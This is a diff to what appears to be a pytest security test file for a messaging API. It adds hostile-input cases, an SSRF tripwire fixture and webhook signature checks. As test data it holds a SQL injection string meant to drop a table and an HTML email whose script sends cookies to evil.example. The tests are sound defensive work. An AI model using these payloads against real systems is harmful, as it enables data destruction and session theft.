@@ -1,6 +1,8 @@
 """Hostile input over HTTP: every request gets a clear 4xx (never a 5xx) and the store is unchanged."""
 
 import json
+import socket
+import threading
 import time
 
 import pytest
@@ -140,6 +142,16 @@ CASES = [
     ("unknown-route", "GET", "/api/admin", None, {}),
     ("wrong-method", "PUT", "/api/webhooks/sms", json.dumps(SMS).encode(), JSON),
     ("get-on-send", "GET", "/api/messages/sms", None, {}),
+    ("trailing-nul", "POST", "/api/webhooks/sms", json.dumps(SMS).encode() + b"\x00", JSON),
+    ("duplicate-key-wrong-type", "POST", "/api/webhooks/sms", json.dumps(SMS)[:-1].encode() + b', "to": 5}', JSON),
+    ("utf16-body", "POST", "/api/webhooks/sms", json.dumps(SMS).encode("utf-16"), JSON),
+    ("infinity-literal", "POST", "/api/messages/sms", changed(SEND_SMS)[:-1] + b', "timestamp": Infinity}', JSON),
+    ("exponent-id", "GET", "/api/messages/1e3", None, {}),
+    ("nul-in-cursor", "GET", "/api/conversations?cursor=%00", None, {}),
+    ("negative-limit", "GET", "/api/conversations?limit=-1", None, {}),
+    ("sql-in-cursor", "GET", "/api/conversations?cursor=1%27%3B%20DROP%20TABLE%20messages%3B--", None, {}),
+    ("delete-message", "DELETE", "/api/messages/1", None, {}),
+    ("encoded-slash-route", "POST", "/api/webhooks%2Fsms", json.dumps(SMS).encode(), JSON),
 ]
 
 
@@ -166,17 +178,60 @@ def test_sql_looking_text_is_stored_verbatim_and_harms_nothing(runner_url, runne
     assert runner_db.counts()["messages"] == 1
 
 
-def test_attachment_urls_are_never_fetched(runner_url, runner_db):
-    """The webhook answers at once though its attachment points at a port where nothing listens."""
-    started = time.monotonic()
-    response = call(
-        runner_url,
-        "POST",
-        "/api/webhooks/email",
-        {**EMAIL, "attachments": ["http://127.0.0.1:9/never-fetched", "https://localhost:1/blackhole"]},
+@pytest.fixture
+def tripwire():
+    """A listening socket that records every connection made to it."""
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.settimeout(0.1)
+    connections: list[object] = []
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                connection, peer = listener.accept()
+            except TimeoutError:
+                continue
+            connections.append(peer)
+            connection.close()
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    yield listener.getsockname()[1], connections
+    stop.set()
+    thread.join()
+    listener.close()
+
+
+def test_attachment_urls_are_never_fetched(runner_url, runner_db, tripwire):
+    """Webhooks and a send whose attachments point at a listening socket: it never sees a connection."""
+    port, connections = tripwire
+    urls = [f"http://127.0.0.1:{port}/image.png", f"https://127.0.0.1:{port}/document.pdf"]
+    assert call(runner_url, "POST", "/api/webhooks/email", {**EMAIL, "attachments": urls}).status == 200
+    assert call(runner_url, "POST", "/api/webhooks/sms", {**SMS, "type": "mms", "attachments": urls}).status == 200
+    assert call(runner_url, "POST", "/api/messages/sms", {**SEND_SMS, "type": "mms", "attachments": urls}).status == 202
+    time.sleep(1.0)  # time for anything asynchronous (the retry consumer, the sweep) to misbehave
+    assert connections == []
+    stored = {
+        json.dumps(row)
+        for row in (call(runner_url, "GET", f"/api/messages/{i}").json()["attachments"] for i in (1, 2, 3))
+    }
+    assert stored == {json.dumps(urls)}
+
+
+def test_html_email_is_returned_byte_for_byte_and_never_as_html(runner_url, runner_db):
+    html = (
+        "<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head>\r\n"
+        '<body onload="alert(1)"><img src="https://tracker.example/p.gif">'
+        "&lt;&amp;&gt; \u00e9\u4e2d\U0001f600</body></html>"
     )
+    response = call(runner_url, "POST", "/api/webhooks/email", {**EMAIL, "body": html})
     assert response.status == 200
-    assert time.monotonic() - started < 5
+    fetched = call(runner_url, "GET", f"/api/messages/{response.json()['id']}")
+    assert fetched.headers["content-type"].startswith("application/json")
+    assert fetched.json()["body"] == html
+    listed = call(runner_url, "GET", f"/api/conversations/{response.json()['conversation_id']}/messages")
+    assert listed.json()["items"][0]["body"] == html
 
 
 @pytest.fixture(scope="module")
@@ -213,6 +268,31 @@ def test_forged_and_replayed_webhooks_are_401(signed_runner, path, document, sec
     assert response.json()["error"]["code"] == "invalid_signature"
     assert database.counts() == before
     database.engine.dispose()
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"X-Signature-Timestamp": "\u00b2", "X-Signature": "v1=" + "0" * 64},
+        {"X-Signature-Timestamp": "1" * 40, "X-Signature": "v1=" + "0" * 64},
+        {"X-Signature-Timestamp": "", "X-Signature": ""},
+        {"X-Signature": "v1=" + "0" * 64},
+        {"X-Signature-Timestamp": str(int(time.time())), "X-Signature": ",".join(["v1=zz"] * 500)},
+    ],
+    ids=["superscript-timestamp", "huge-timestamp", "empty-headers", "no-timestamp", "many-garbage-signatures"],
+)
+def test_malformed_signature_headers_are_401(signed_runner, headers):
+    response = call(signed_runner.url, "POST", "/api/webhooks/sms", json.dumps(SMS).encode(), {**JSON, **headers})
+    assert response.status == 401
+    assert response.json()["error"]["code"] == "invalid_signature"
+
+
+def test_the_signature_is_checked_before_the_body_is_parsed(signed_runner):
+    unsigned_garbage = call(signed_runner.url, "POST", "/api/webhooks/sms", b'{"broken', JSON)
+    assert unsigned_garbage.status == 401
+    body = b'{"broken'
+    signed_garbage = call(signed_runner.url, "POST", "/api/webhooks/sms", body, {**JSON, **sign(body, "sms-secret")})
+    assert signed_garbage.status == 400
 
 
 def test_unsigned_webhook_is_401_and_signed_ones_pass(signed_runner):
